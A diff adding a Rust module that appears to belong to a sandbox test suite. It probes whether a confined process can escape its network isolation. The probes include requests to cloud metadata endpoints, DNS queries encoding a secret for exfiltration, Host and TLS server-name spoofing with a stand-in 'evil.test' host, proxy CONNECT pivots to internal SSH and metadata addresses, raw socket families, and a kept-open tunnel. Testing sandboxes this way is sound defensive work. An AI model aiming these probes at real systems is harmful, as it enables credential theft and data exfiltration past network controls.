@@ -1,0 +1,205 @@
+//! Sockets. Outside of a cell nothing here leaves the machine.
+
+use std::io::{self, Read, Write};
+use std::net::{SocketAddr, TcpStream, ToSocketAddrs as _, UdpSocket};
+use std::os::linux::net::SocketAddrExt as _;
+use std::os::unix::net::{SocketAddr as UnixAddr, UnixStream};
+use std::time::Duration;
+
+use crate::attack::{Bait, Probe};
+use crate::raw::call;
+
+/// How long an answer is waited for. What is on this machine answers at once.
+const PATIENCE: Duration = Duration::from_millis(500);
+
+pub(crate) fn unix(bait: &Bait<'_>) -> Vec<Probe> {
+    let probe = |path: &str| {
+        let place = if path.starts_with(bait.text("out")) { "in a folder that it may write" } else { "elsewhere" };
+        Probe::of(format!("a socket {place}"), UnixStream::connect(path).and_then(|stream| heard(bait, stream)))
+    };
+    bait.texts("sockets").map(probe).collect()
+}
+
+pub(crate) fn abstract_unix(bait: &Bait<'_>) -> Vec<Probe> {
+    let stream = UnixAddr::from_abstract_name(bait.text("abstract")).and_then(|name| UnixStream::connect_addr(&name));
+    vec![Probe::of("an abstract socket", stream.and_then(|stream| heard(bait, stream)))]
+}
+
+pub(crate) fn loopback(bait: &Bait<'_>) -> Vec<Probe> {
+    let port = bait.number("port");
+    let probe = |host: &str| {
+        let stream = connect(&format!("{host}:{port}"));
+        Probe::of(format!("{host} of the machine"), stream.and_then(|stream| heard(bait, stream)))
+    };
+    let hosts = ["127.0.0.1", "localhost", "0.0.0.0", "[::ffff:127.0.0.1]"];
+    hosts.into_iter().chain(bait.texts("addresses")).map(probe).collect()
+}
+
+pub(crate) fn metadata(bait: &Bait<'_>) -> Vec<Probe> {
+    if !bait.caged() {
+        return Vec::new();
+    }
+    let hosts = [
+        "169.254.169.254:80",
+        "[fd00:ec2::254]:80",
+        "169.254.170.2:80",
+        "100.100.100.200:80",
+        "metadata.google.internal:80",
+    ];
+    let get = "GET /latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n";
+    hosts.into_iter().map(|host| Probe::of(host, connect(host).and_then(|stream| answered(stream, get)))).collect()
+}
+
+pub(crate) fn dns(bait: &Bait<'_>) -> Vec<Probe> {
+    let name = "c2VjcmV0.exfiltration.test";
+    let mut probes = vec![Probe::of("a resolver of the machine", ask(bait.text("udp"), name))];
+    if bait.caged() {
+        let resolved =
+            (name, 443).to_socket_addrs().and_then(|mut found| found.next().ok_or(io::ErrorKind::NotFound.into()));
+        probes.push(Probe::of("the library's resolver", resolved));
+        for server in ["127.0.0.1:53", "192.0.2.53:53", "[2001:db8::53]:53"] {
+            probes.push(Probe::of(format!("the resolver at {server}"), ask(server, name)));
+        }
+    }
+    probes
+}
+
+/// Asks for an address. That there is no such name is an error, too.
+fn ask(server: &str, name: &str) -> io::Result<()> {
+    let server: SocketAddr = server.parse().map_err(io::Error::other)?;
+    let socket = UdpSocket::bind(if server.is_ipv4() { "0.0.0.0:0" } else { "[::]:0" })?;
+    socket.set_read_timeout(Some(PATIENCE))?;
+    let labels = name.split('.').flat_map(|label| [&[label.len().to_le_bytes()[0]], label.as_bytes()].concat());
+    let mut question = vec![0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
+    question.extend(labels.chain([0, 0, 1, 0, 1]));
+    socket.send_to(&question, server)?;
+    let mut answer = [0; 512];
+    let size = socket.recv(&mut answer)?;
+    match answer.get(3).filter(|_| size > 3).map(|code| code & 0xf) {
+        Some(0) => Ok(()),
+        code => Err(io::Error::other(format!("answer {code:?}"))),
+    }
+}
+
+pub(crate) fn forge(bait: &Bait<'_>) -> Vec<Probe> {
+    let (plain, secure) = (bait.text("forge"), bait.text("forge_tls"));
+    let get = |target: &str, host: &str| format!("GET {target} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n");
+    let web =
+        |what: &str, to: &str, request: &str| Probe::of(what, connect(to).and_then(|stream| answered(stream, request)));
+    let mut probes = vec![web("another `Host`", plain, &get("/", "evil.test"))];
+    if !bait.caged() {
+        return probes;
+    }
+    if bait.connected() {
+        let resolved = plain.to_socket_addrs().map(Iterator::collect::<Vec<_>>);
+        probes.push(Probe::new("NOT the name that is declared", resolved.is_err(), format!("{resolved:?}")));
+    }
+    probes.push(web("another host in the target", plain, &get("http://evil.test/", "evil.test")));
+    probes.push(web(
+        "a second request on the connection",
+        plain,
+        &[get("/", "evil.test"), get("/", "evil.test")].concat(),
+    ));
+    probes.push(web("no TLS at all", secure, &get("/", "evil.test")));
+    probes.push(Probe::of(
+        "another TLS server name",
+        connect(secure).and_then(|stream| shake_hands(stream, "evil.test")),
+    ));
+    for target in ["evil.test:443", "127.0.0.1:22", "169.254.169.254:80", "[::1]:22", "2130706433:22"] {
+        let request = format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n");
+        probes.push(web(&format!("CONNECT {target}"), "127.0.0.1:3128", &request));
+    }
+    for raw in ["127.0.0.1:80", "127.0.0.1:443", "192.0.2.1:443", "127.64.0.200:80"] {
+        probes.push(web(&format!("the address {raw}"), raw, &get("/", "evil.test")));
+    }
+    probes
+}
+
+/// Whether a server answers with anything but a refusal.
+fn answered(mut stream: TcpStream, request: &str) -> io::Result<()> {
+    stream.set_read_timeout(Some(PATIENCE))?;
+    stream.write_all(request.as_bytes())?;
+    let mut answer = [0; 64];
+    let size = stream.read(&mut answer)?;
+    let answer = String::from_utf8_lossy(answer.get(..size).unwrap_or_default()).into_owned();
+    // The alert is that of TLS.
+    match answer.starts_with("HTTP/1.1 4") || answer.starts_with('\u{15}') || answer.is_empty() {
+        true => Err(io::Error::other(format!("refused: {:?}", answer.lines().next().unwrap_or_default()))),
+        false => Ok(()),
+    }
+}
+
+/// Sends a ClientHello with this server name; an answer that is a handshake is a leak.
+fn shake_hands(mut stream: TcpStream, name: &str) -> io::Result<()> {
+    let byte = |length: usize| length.to_le_bytes()[0];
+    let short = |length: usize| [length.to_le_bytes()[1], length.to_le_bytes()[0]];
+    let entry = [&[0][..], &short(name.len()), name.as_bytes()].concat();
+    let list = [&short(entry.len())[..], &entry].concat();
+    let mut extensions = [&[0, 0][..], &short(list.len()), &list].concat();
+    // Signature schemes, groups, versions: enough to be a ClientHello of TLS 1.3.
+    extensions.extend([0, 13, 0, 4, 0, 2, 4, 3, 0, 10, 0, 4, 0, 2, 0, 29, 0, 43, 0, 3, 2, 3, 4]);
+    let mut body = vec![3, 3];
+    body.extend([7; 32]);
+    body.extend([0, 0, 2, 0x13, 1, 1, 0]);
+    body.extend(short(extensions.len()));
+    body.extend(extensions);
+    let hello = [&[22, 3, 1][..], &short(body.len() + 4), &[1, 0], &short(body.len()), &body].concat();
+    debug_assert_eq!(byte(hello.len() - 9), byte(body.len()));
+    stream.set_read_timeout(Some(PATIENCE))?;
+    stream.write_all(&hello)?;
+    let mut first = [0];
+    stream.read_exact(&mut first)?;
+    if first == [22] { Ok(()) } else { Err(io::Error::other("refused by an alert")) }
+}
+
+pub(crate) fn families(bait: &Bait<'_>) -> Vec<Probe> {
+    let mut probes = vec![Probe::of("a datagram to the machine's loopback", ask(bait.text("udp"), "x"))];
+    let stream = libc::SOCK_STREAM;
+    for (what, family, kind, protocol) in [
+        ("raw IP", libc::AF_INET, libc::SOCK_RAW, 1),
+        ("packets", libc::AF_PACKET, libc::SOCK_RAW, 0),
+        ("a virtual machine's host", libc::AF_VSOCK, stream, 0),
+        ("the kernel's ciphers", libc::AF_ALG, libc::SOCK_SEQPACKET, 0),
+        ("device events", libc::AF_NETLINK, libc::SOCK_RAW, libc::NETLINK_KOBJECT_UEVENT),
+        ("the audit log", libc::AF_NETLINK, libc::SOCK_RAW, libc::NETLINK_AUDIT),
+        ("netfilter", libc::AF_NETLINK, libc::SOCK_RAW, libc::NETLINK_NETFILTER),
+        ("Unix sockets", libc::AF_UNIX, stream, 0),
+        ("IPsec keys", libc::AF_KEY, libc::SOCK_RAW, 2),
+        ("Bluetooth", libc::AF_BLUETOOTH, libc::SOCK_RAW, 1),
+        ("TIPC", libc::AF_TIPC, stream, 0),
+        ("CAN", libc::AF_CAN, libc::SOCK_RAW, 1),
+        ("SCTP", libc::AF_INET, stream, libc::IPPROTO_SCTP),
+        ("MPTCP", libc::AF_INET, stream, libc::IPPROTO_MPTCP),
+    ] {
+        let made = call(libc::SYS_socket, [family.into(), (kind | libc::SOCK_CLOEXEC).into(), protocol.into()]);
+        if let Ok(socket) = made {
+            // What is only tried is closed again.
+            let _ = call(libc::SYS_close, [i32::try_from(socket).unwrap_or(-1).into()]);
+        }
+        probes.push(Probe::of(what, made));
+    }
+    probes
+}
+
+/// Opens a tunnel and keeps it, also beyond the call.
+pub(crate) fn tunnel(bait: &Bait<'_>) -> Vec<Probe> {
+    let opened = connect(bait.text("tunnel")).and_then(|mut stream| {
+        stream.write_all(b"hello from the cell\n")?;
+        stream.read_exact(&mut [0])?;
+        std::mem::forget(stream);
+        Ok(())
+    });
+    vec![Probe::of("a tunnel", opened)]
+}
+
+fn connect(to: &str) -> io::Result<TcpStream> {
+    let address = to.to_socket_addrs()?.next().ok_or(io::ErrorKind::NotFound)?;
+    TcpStream::connect_timeout(&address, PATIENCE)
+}
+
+/// Reads what the bait says to everybody.
+fn heard(bait: &Bait<'_>, stream: impl Read) -> io::Result<()> {
+    let mut bytes = Vec::new();
+    stream.take(256).read_to_end(&mut bytes)?;
+    if bait.is_in(&bytes) { Ok(()) } else { Err(io::Error::other("somebody else answers")) }
+}
